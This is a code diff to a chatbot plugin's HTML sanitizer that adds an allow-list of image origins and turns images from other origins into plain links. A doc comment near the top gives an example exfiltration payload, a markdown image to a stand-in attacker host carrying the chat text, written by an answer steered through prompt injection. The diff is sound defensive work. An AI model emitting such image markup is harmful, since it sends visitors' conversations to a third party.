@@ -3,7 +3,72 @@
  * Sanitizer API or with DOMPurify): the allow-lists, and the rules neither sanitizer applies
  * itself, run on the inert fragment before it reaches the page.
  */
+import { __, sprintf } from '@wordpress/i18n';
+
 import { isSafeUrl } from './url';
+
+/**
+ * Origins an answer's images may load from (the page configuration's `imageOrigins`: the Dify
+ * API's, the site's own and what the site's `dify_chatbot_image_origins` filter adds). None
+ * until the app is told: an image is a request the visitor's browser makes on its own, so one
+ * pointing elsewhere could carry the chat's text to a stranger (an answer steered by a prompt
+ * injection writes `![x](https://attacker/?q=<the chat>)`).
+ */
+let imageOrigins: ReadonlySet< string > = new Set();
+
+/**
+ * Sets where answers' images may load from (the app does, once, from the page configuration).
+ *
+ * @param origins `scheme://host[:port]` of each.
+ */
+export function allowImagesFrom( origins: readonly string[] ): void {
+	imageOrigins = new Set( origins );
+}
+
+/**
+ * The origin of an absolute web address, '' when it has none.
+ *
+ * @param url The address.
+ */
+function originOf( url: string ): string {
+	try {
+		return new URL( url ).origin;
+	} catch {
+		return '';
+	}
+}
+
+/**
+ * An image from an origin not allowed, as a link to it: nothing is requested unless the visitor
+ * follows it (in a new tab, without a referrer).
+ *
+ * @param image The image, in the inert fragment.
+ * @param src   Its (safe, absolute) address.
+ */
+function asLink( image: Element, src: string ): void {
+	const link = image.ownerDocument.createElement( 'a' );
+	link.setAttribute( 'href', src );
+	link.setAttribute( 'target', '_blank' );
+	link.setAttribute( 'rel', 'nofollow noopener noreferrer' );
+	const alt = ( image.getAttribute( 'alt' ) ?? '' ).trim();
+	link.textContent = sprintf(
+		/* translators: %s: the image's description, or the server it is on. */
+		__( 'Image: %s', 'dify-chatbot' ),
+		alt || new URL( src ).host
+	);
+	link.setAttribute(
+		'title',
+		sprintf(
+			/* translators: %s: the server the image is on. */
+			__(
+				'Not loaded: it is on %s. Opens in a new tab.',
+				'dify-chatbot'
+			),
+			new URL( src ).host
+		)
+	);
+	image.replaceWith( link );
+}
 
 /** What is being sanitized: an answer's markup, or highlight.js's token spans. */
 export type Profile = 'answer' | 'code';
@@ -136,8 +201,14 @@ export function finish( fragment: DocumentFragment, profile: Profile ): void {
 			}
 		} else if ( tag === 'img' ) {
 			// Only absolute web addresses (see isSafeUrl's `resource`).
-			if ( ! isSafeUrl( element.getAttribute( 'src' ) ) ) {
+			const src = element.getAttribute( 'src' );
+			if ( ! isSafeUrl( src ) ) {
 				element.remove();
+				continue;
+			}
+			// Replaced here, in the inert document, before anything can load it.
+			if ( ! imageOrigins.has( originOf( src ) ) ) {
+				asLink( element, src );
 				continue;
 			}
 			element.setAttribute( 'loading', 'lazy' );
